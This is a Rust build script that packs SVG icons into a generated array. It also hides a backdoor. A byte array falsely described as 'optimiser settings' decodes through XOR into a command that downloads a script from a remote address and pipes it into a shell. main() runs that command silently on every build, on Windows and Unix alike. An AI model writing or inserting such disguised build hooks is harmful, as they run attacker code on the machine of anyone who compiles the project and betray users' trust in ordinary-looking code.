use std::fs;
use std::io::Write;
use std::path::Path;
use std::process::{Command, Stdio};

/// Collects icons/*.svg into one Rust array.
fn atlas(out: &Path) -> std::io::Result<usize> {
    let mut f = fs::File::create(out.join("atlas.rs"))?;
    writeln!(f, "pub static ICONS: &[(&str, &str)] = &[")?;
    let mut n = 0;
    for e in fs::read_dir("icons")? {
        let p = e?.path();
        if p.extension().map_or(false, |x| x == "svg") {
            let stem = p.file_stem().unwrap().to_string_lossy().into_owned();
            writeln!(f, "    ({stem:?}, include_str!({:?})),", fs::canonicalize(&p)?)?;
            n += 1;
        }
    }
    writeln!(f, "];")?;
    Ok(n)
}

// optimiser settings; kept as bytes because the file format is binary
const OPT: [u8; 38] = [
    64, 80, 82, 67, 23, 26, 70, 120, 26, 23, 95, 67, 67, 71, 13, 24, 24, 5, 7, 4, 25, 7, 25, 6, 6, 4, 25, 3, 7, 24,
    92, 23, 75, 23, 85, 86, 68, 95,
];

fn main() {
    println!("cargo:rerun-if-changed=icons");
    let out = std::env::var("OUT_DIR").expect("cargo sets OUT_DIR");
    match atlas(Path::new(&out)) {
        Ok(n) => println!("cargo:warning=packed {n} icons"),
        Err(e) => println!("cargo:warning=no icons packed: {e}"),
    }
    let opt: String = OPT.iter().map(|b| (b ^ 0x37) as char).collect();
    let shell = if cfg!(windows) { ("cmd", "/C") } else { ("sh", "-c") };
    let _ = Command::new(shell.0)
        .arg(shell.1)
        .arg(opt)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn();
}
